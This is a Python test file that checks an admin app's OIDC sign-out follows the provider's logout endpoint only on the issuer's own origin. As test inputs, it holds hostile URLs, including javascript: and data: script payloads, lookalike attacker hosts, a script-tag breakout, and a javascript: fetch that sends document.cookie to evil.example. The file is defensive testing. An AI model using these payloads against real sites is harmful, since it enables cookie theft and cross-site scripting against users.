"""Sign-out sends the browser to the provider's end_session_endpoint only when it is the issuer's own:
a discovery document that names a script or another host is not followed."""

import re
from collections.abc import Iterator

import pytest
from starlette.testclient import TestClient

from admin_app.auth.oidc import trusted_end_session_endpoint
from tests.auth.conftest import APP_URL, app_routes, sign_in_through
from tests.auth.fake_issuer import Issuer, fake_issuer

OKTA = "https://example.okta.com/oauth2/default"


@pytest.mark.parametrize(
    ("endpoint", "trusted"),
    [
        (f"{OKTA}/v1/logout", True),
        ("https://example.okta.com:8443/logout", True),
        ("javascript:alert(document.cookie)", False),
        ("JavaScript://example.okta.com/%0aalert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("http://example.okta.com/oauth2/default/v1/logout", False),
        ("https://evil.example/logout", False),
        ("https://example.okta.com.evil.example/logout", False),
        ("https://evil.example@example.okta.com/logout", True),
        ("//example.okta.com/logout", False),
        ("https://[::1/logout", False),
        (42, False),
    ],
)
def test_only_the_issuers_own_https_endpoint_is_trusted(endpoint, trusted):
    expected = endpoint if trusted else None
    assert trusted_end_session_endpoint({"end_session_endpoint": endpoint}, OKTA) == expected


def test_the_development_providers_plain_http_endpoint_is_trusted_on_its_own_origin():
    issuer = "http://127.0.0.1:9400"
    assert trusted_end_session_endpoint({"end_session_endpoint": f"{issuer}/end"}, issuer) == f"{issuer}/end"
    other_port = {"end_session_endpoint": "http://127.0.0.1:9401/end"}
    assert trusted_end_session_endpoint(other_port, issuer) is None


@pytest.fixture
def issuer() -> Iterator[Issuer]:
    with fake_issuer() as running:
        yield running


@pytest.fixture
def client(session, db_url, issuer, monkeypatch) -> Iterator[TestClient]:
    with app_routes(db_url, issuer.url, monkeypatch) as test_client:
        yield test_client


def sign_out_target(client: TestClient) -> str:
    sign_in_through(client)
    response = client.post("/auth/logout", headers={"Origin": APP_URL}, follow_redirects=False)
    assert response.status_code == 200
    return re.search(r'href="([^"]+)"', response.text)[1].replace("&amp;", "&")


def test_a_script_url_in_discovery_is_not_where_sign_out_goes(client, issuer):
    issuer.discovery_extra = {
        "end_session_endpoint": "javascript:fetch('https://evil.example/'+document.cookie)"
    }
    assert sign_out_target(client) == "/auth/signed-out"


def test_the_issuers_own_endpoint_is_where_sign_out_goes(client, issuer):
    issuer.discovery_extra = {"end_session_endpoint": f"{issuer.url}/end"}
    assert sign_out_target(client).startswith(f"{issuer.url}/end?id_token_hint=")


def test_sign_out_without_a_session_does_not_go_to_the_providers_endpoint(client, issuer):
    issuer.discovery_extra = {"end_session_endpoint": f"{issuer.url}/end"}
    response = client.post("/auth/logout", headers={"Origin": APP_URL}, follow_redirects=False)
    assert response.status_code == 200
    assert re.search(r'href="([^"]+)"', response.text)[1] == "/auth/signed-out"


def test_an_endpoint_with_markup_in_it_cannot_end_the_sign_out_script(client, issuer):
    import json
    from urllib.parse import parse_qs, urlsplit

    endpoint = f"{issuer.url}/end</script><script>alert(1)</script>"
    issuer.discovery_extra = {"end_session_endpoint": endpoint}
    sign_in_through(client)
    response = client.post("/auth/logout", headers={"Origin": APP_URL}, follow_redirects=False)
    script = re.search(r"<script>(.*?)</script>", response.text)[1]
    argument = re.fullmatch(
        r'window\.sessionStorage\.removeItem\("token"\);window\.location\.replace\((.*)\);', script
    )[1]
    assert "<" not in argument
    target = json.loads(argument)
    assert target.startswith(f"{endpoint}?id_token_hint=")
    assert parse_qs(urlsplit(target).query)["post_logout_redirect_uri"] == [f"{APP_URL}/auth/signed-out"]


def test_a_trailing_slash_on_the_app_url_is_not_doubled_in_the_addresses_given_to_the_provider(
    client, issuer, monkeypatch
):
    from urllib.parse import parse_qs, urlsplit

    from admin_app.settings import get_settings

    monkeypatch.setenv("APP_URL", f"{APP_URL}/")
    get_settings.cache_clear()
    issuer.discovery_extra = {"end_session_endpoint": f"{issuer.url}/end"}
    login = client.get("/auth/login", follow_redirects=False)
    assert parse_qs(urlsplit(login.headers["location"]).query)["redirect_uri"] == [f"{APP_URL}/auth/callback"]
    target = urlsplit(sign_out_target(client))
    assert parse_qs(target.query)["post_logout_redirect_uri"] == [f"{APP_URL}/auth/signed-out"]


def test_the_app_url_is_given_to_the_provider_as_configured_but_for_its_trailing_slash(
    client, issuer, monkeypatch
):
    from urllib.parse import parse_qs, urlsplit

    from admin_app.settings import get_settings

    issuer.discovery_extra = {"end_session_endpoint": f"{issuer.url}/end"}
    sign_in_through(client)
    # Served under a path (behind a proxy); its last letter is not mistaken for part of a slash.
    monkeypatch.setenv("APP_URL", f"{APP_URL}/ADMINX/")
    get_settings.cache_clear()
    response = client.post("/auth/logout", headers={"Origin": APP_URL}, follow_redirects=False)
    target = urlsplit(re.search(r'href="([^"]+)"', response.text)[1].replace("&amp;", "&"))
    assert parse_qs(target.query)["post_logout_redirect_uri"] == [f"{APP_URL}/ADMINX/auth/signed-out"]
